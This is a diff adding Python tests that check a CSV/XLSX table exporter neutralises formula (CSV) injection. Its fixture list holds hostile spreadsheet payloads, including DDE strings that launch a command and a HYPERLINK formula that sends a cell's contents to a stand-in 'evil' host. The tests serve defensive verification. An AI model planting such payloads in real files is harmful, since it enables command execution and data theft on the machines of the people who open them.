@@ -87,3 +87,40 @@ def test_comments_refuses_a_bomb_table_in_one_line(tmp_path: Path, capsys) -> No
     code, out, err = run_zh(["comments", str(tmp_path / "nothing.docx"), "--update", str(bomb),
                              "-o", str(tmp_path / "new.xlsx"), "--lang", "en"], capsys)
     assert code == 2 and "zip bomb" in err
+
+
+# -- A6: no cell written starts a formula (CSV injection); the comment reads back as the reviewer wrote it ----------
+
+_FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
+             '=HYPERLINK("http://evil/?x="&A1,"click")', "\t=1+1", "\r=1+1", "'=already quoted", "''=twice", "'plain"]
+
+
+def _hostile() -> ResolutionTable:
+    return ResolutionTable(title="养老机构卓越服务规范", rows=[
+        Row(location="-4.1" if k == 0 else f"4.{k}", content=text, unit="=HYPERLINK华东研究院" if k % 2 else "@单位",
+            decision="+采纳" if k == 1 else "", remark="-" if k == 2 else "", key=f"k{k}")
+        for k, text in enumerate(_FORMULAS)])
+
+
+def test_no_csv_cell_written_starts_a_formula_and_the_text_reads_back_unchanged(tmp_path: Path) -> None:
+    import csv
+    import io
+
+    path = tmp_path / "t.csv"
+    path.write_bytes(table_bytes(_hostile(), "csv", today="2026年12月4日"))
+    cells = [c for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))) for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    back = read_table(path)
+    # (a table is read with each cell's surrounding blanks stripped, as ever)
+    assert [(r.location, r.content, r.unit, r.decision, r.remark) for r in back.rows] == [
+        (r.location, r.content.strip(), r.unit, r.decision, r.remark) for r in _hostile().rows]
+
+
+def test_no_xlsx_cell_written_is_a_formula_and_the_text_reads_back_unchanged(tmp_path: Path) -> None:
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(table_bytes(_hostile(), "xlsx", today="2026年12月4日"))
+    with zipfile.ZipFile(path) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    back = read_table(path)
+    assert [(r.content, r.unit, r.decision) for r in back.rows] == [
+        (r.content.strip(), r.unit, r.decision) for r in _hostile().rows]
